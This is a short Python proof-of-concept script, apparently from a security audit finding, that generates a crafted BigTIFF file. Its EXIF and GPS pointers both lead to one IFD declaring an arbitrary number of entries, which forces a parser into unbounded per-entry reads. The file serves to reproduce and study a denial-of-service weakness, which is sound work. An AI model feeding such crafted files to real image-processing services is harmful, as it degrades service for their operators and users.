# Finding T5b: the EXIF (and GPS) IFD of a BigTIFF is scanned entry by entry (3 preads each)
# however many entries it declares: only *kept* entries are capped at 1024. A valid 1x1 RGB
# BigTIFF whose ExifIFD and GPS pointers both lead to one IFD of N entries of type 0.
import sys, struct
N = int(sys.argv[1]); out = sys.argv[2]
def ent(tag, typ, count, val): return struct.pack('<HHQQ', tag, typ, count, val)
pix_at = 16
big_at = 24                      # the junk IFD follows the pixel
junk = struct.pack('<Q', N) + struct.pack('<HHQQ', 0x9000, 0, 1, 0) * N + struct.pack('<Q', 0)
ifd0_at = big_at + len(junk)
e = [ent(256,4,1,1), ent(257,4,1,1), ent(258,3,1,8), ent(259,3,1,1), ent(262,3,1,1),
     ent(273,16,1,pix_at), ent(277,3,1,1), ent(278,4,1,1), ent(279,16,1,1),
     ent(34665,18,1,big_at), ent(34853,18,1,big_at)]
ifd0 = struct.pack('<Q', len(e)) + b''.join(e) + struct.pack('<Q', 0)
data = b'II+\x00' + struct.pack('<HHQ', 8, 0, ifd0_at) + b'\x80' + b'\0'*7 + junk + ifd0
open(out, 'wb').write(data)
